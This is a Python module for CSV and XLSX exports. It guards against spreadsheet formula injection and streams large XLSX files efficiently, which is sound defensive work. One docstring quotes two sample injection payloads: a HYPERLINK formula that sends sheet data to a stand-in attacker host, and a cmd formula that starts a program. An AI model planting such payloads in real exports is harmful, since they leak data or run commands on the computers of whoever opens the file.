"""Cells written to files that people open in a spreadsheet (CSV and XLSX exports)."""

import io
import itertools
import queue
import re
import threading
import zipfile
from collections.abc import Iterable

import openpyxl
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Alignment, Font
from openpyxl.utils import get_column_letter

# Characters that make Excel, LibreOffice or Google Sheets read a cell as a formula (a tab or a
# carriage return before one of them is skipped by some of them, so those count too).
_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """``value`` ready for a spreadsheet cell: text that starts like a formula gets a leading
    apostrophe; anything else (numbers, dates, None, ordinary text) is returned unchanged.

    Exports carry text typed by users (a centre's or a person's name, an address). Opened in a
    spreadsheet, a cell such as ``=HYPERLINK("http://evil.example/?"&A2, "click")`` or
    ``=cmd|' /C calc'!A0`` would run as a formula, leaking the sheet or starting a program
    (CSV or formula injection, OWASP). The apostrophe makes the spreadsheet show the text as
    typed, and it stays visible as the sign that the text was changed.
    """
    if isinstance(value, str) and value.startswith(_FORMULA_STARTS):
        return "'" + value
    return value


_FORMULA_FIRST = frozenset(_FORMULA_STARTS)
# A cell's start in a row joined by the unit separator (\x1f) is right after one.
_FORMULA_IN_ROW = re.compile("\x1f[" + re.escape("".join(_FORMULA_STARTS)) + "]")


def safe_texts(texts: list[str]) -> list[str]:
    """safe_cell of each of ``texts`` (all strings), at a fraction of its cost: an export makes
    tens of millions of cells, and hardly any starts like a formula.

    One search of the joined row finds whether any may; a separator inside a cell can only
    make it look at the cells one by one for nothing.
    """
    if _FORMULA_IN_ROW.search("\x1f" + "\x1f".join(texts)) is None:
        return texts
    return ["'" + text if text[:1] in _FORMULA_FIRST else text for text in texts]


# -- XLSX of any size ------------------------------------------------------------------------------

# Excel's last row; the header takes one.
XLSX_MAX_ROWS = 1_048_576
_SHEET = "xl/worksheets/sheet1.xml"
_ILLEGAL_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
# What makes a cell more than its text between tags: XML's specials, control characters
# (line breaks and tabs included: they decide the cell's style and its whitespace).
_NEEDS_CARE = re.compile(r"[&<>\x00-\x1f]")


class TooManyRows(ValueError):
    """More rows than an Excel sheet holds."""


def write_xlsx(
    file,
    headers: list[str],
    chunks: Iterable[list[list[str]]],
    *,
    title: str,
    max_rows: int = XLSX_MAX_ROWS - 1,
) -> int:
    """Write an XLSX workbook of one sheet to ``file`` (a binary file open for writing): the
    headers in bold and frozen, then the rows of ``chunks`` (lists of rows of text), in
    constant memory and at some 15 times the speed of openpyxl's own write-only sheets.

    openpyxl writes the workbook around the sheet (styles, theme, properties, the sheet's
    view and columns); the rows are streamed into its sheet as the same inline-string cells
    its write-only mode writes, without building an element for each cell. Characters XML
    cannot carry (control characters) become U+FFFD. Returns the number of rows written;
    raises TooManyRows beyond ``max_rows`` (Excel's limit; the file is then incomplete).
    """
    chunks = iter(chunks)
    first = next(chunks, [])
    widths = [len(h) for h in headers]
    for row in first[:200]:
        widths = [max(w, len(cell)) for w, cell in zip(widths, row, strict=True)]
    book = openpyxl.Workbook(write_only=True)
    sheet = book.create_sheet(_sheet_title(title))
    sheet.freeze_panes = "A2"
    letters = [get_column_letter(i) for i in range(1, len(headers) + 1)]
    for letter, width in zip(letters, widths, strict=True):
        sheet.column_dimensions[letter].width = min(max(width, 6), 60) + 2
    bold = []
    for text in headers:
        cell = WriteOnlyCell(sheet, value=_ILLEGAL_XML.sub("\ufffd", text))
        cell.font = Font(bold=True)
        bold.append(cell)
    sheet.append(bold)
    wrapped = WriteOnlyCell(sheet)
    wrapped.alignment = Alignment(wrap_text=True)
    wrap_style = wrapped.style_id  # registers the style: cells with line breaks use it
    skeleton = io.BytesIO()
    book.save(skeleton)

    count = 0
    with (
        zipfile.ZipFile(skeleton) as source,
        # The fastest deflate: a quarter larger than the default, in a third of the time.
        zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as target,
    ):
        for info in source.infolist():
            if info.filename != _SHEET:
                target.writestr(info, source.read(info), zipfile.ZIP_DEFLATED)
                continue
            head, tail = source.read(info).split(b"</sheetData>")
            with target.open(_SHEET, "w") as out, _Deflating(out) as sheet_data:
                sheet_data.write(head)
                for chunk in itertools.chain([first], chunks):
                    if count + len(chunk) > max_rows:
                        raise TooManyRows(max_rows)
                    sheet_data.write(_rows_xml(count + 2, letters, chunk, wrap_style).encode())
                    count += len(chunk)
                sheet_data.write(b"</sheetData>" + tail)
    return count


class _Deflating:
    """Writes to a zip member from a thread of its own: zlib lets go of the interpreter while
    it compresses, so the next rows are made (and read from the database) meanwhile, on
    another core. At most two pieces wait, so memory stays bounded."""

    def __init__(self, out):
        self.out = out
        self.pieces: queue.Queue = queue.Queue(maxsize=2)
        self.failure: BaseException | None = None
        self.thread = threading.Thread(target=self._run, daemon=True)

    def _run(self):
        while (piece := self.pieces.get()) is not None:
            if self.failure is None:
                try:
                    self.out.write(piece)
                except BaseException as error:  # noqa: BLE001 - raised in the writer's thread
                    self.failure = error

    def write(self, piece: bytes) -> None:
        if self.failure is not None:
            raise self.failure
        self.pieces.put(piece)

    def __enter__(self):
        self.thread.start()
        return self

    def __exit__(self, *exc):
        self.pieces.put(None)
        self.thread.join()
        if self.failure is not None and exc[0] is None:
            raise self.failure
        return False


# Most rows hold nothing to escape and no text with a space at either end: their cells go
# without references (``r``, optional in ECMA-376: a cell without one is the one after the
# previous, a row the one after the previous, as Excel, LibreOffice, Google Sheets and openpyxl
# read them), empty cells as <c/> to keep the count. Making a cell is then one concatenation.
# Other rows come with references (_row_xml): the plain rows after them count on from those.
_PLAIN_CARE = re.compile(r"[&<>\x00\x02-\x1f]")  # \x01: the cells' separator in the test
_CELL = '<c t="inlineStr"><is><t>'
_END = "</t></is></c>"


def _rows_xml(number: int, letters: list[str], rows: list[list[str]], wrap_style: int) -> str:
    """The XML of ``rows``, the first of them row ``number`` of the sheet."""
    parts = []
    cell, end = _CELL, _END
    for offset, row in enumerate(rows):
        text = "\x01".join(row)
        if (
            _PLAIN_CARE.search(text) is None
            and " \x01" not in text
            and "\x01 " not in text
            and text[:1] != " "
            and text[-1:] != " "
            # A \x01 of the row's own is not a separator (and XML cannot carry it).
            and text.count("\x01") == len(row) - 1
        ):
            parts.append(
                "<row>" + "".join([cell + c + end if c else "<c/>" for c in row]) + "</row>"
            )
        else:
            parts.append(_row_xml(number + offset, letters, row, wrap_style))
    return "".join(parts)


def _row_xml(number: int, letters: list[str], row: list[str], wrap_style: int) -> str:
    # Most rows hold nothing to escape: one search of the whole row, not one a cell, and
    # their cells made in one comprehension.
    if _NEEDS_CARE.search("".join(row)) is None:
        n = str(number)
        cells = [
            f'<c r="{letter}{n}" t="inlineStr"><is><t xml:space="preserve">{text}</t></is></c>'
            if text[0] == " " or text[-1] == " "
            else f'<c r="{letter}{n}" t="inlineStr"><is><t>{text}</t></is></c>'
            for letter, text in zip(letters, row, strict=True)
            if text
        ]
        if not row[-1]:
            cells.append(f'<c r="{letters[-1]}{n}"/>')
        return f'<row r="{n}">{"".join(cells)}</row>'
    plain = False
    cells = []
    for letter, text in zip(letters, row, strict=True):
        if not text:
            continue
        style = ""
        if plain:
            space = ' xml:space="preserve"' if text[0] == " " or text[-1] == " " else ""
        else:
            text = _ILLEGAL_XML.sub("\ufffd", text)
            text = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
            space = ' xml:space="preserve"' if text != text.strip(" \t\r\n") else ""
            if "\n" in text:
                style = f' s="{wrap_style}"'
        cells.append(
            f'<c r="{letter}{number}"{style} t="inlineStr"><is><t{space}>{text}</t></is></c>'
        )
    if not row[-1]:
        # Empty cells are left out, but not the last: a reader that does not look for the
        # sheet's width (openpyxl's read-only mode) then sees every row as wide as the header.
        cells.append(f'<c r="{letters[-1]}{number}"/>')
    return f'<row r="{number}">{"".join(cells)}</row>'


def _sheet_title(title: str) -> str:
    """A sheet name Excel accepts: 31 characters at most, none of []:*?/\\."""
    return re.sub(r"[\[\]:*?/\\]", " ", title).strip()[:31] or "Sheet1"
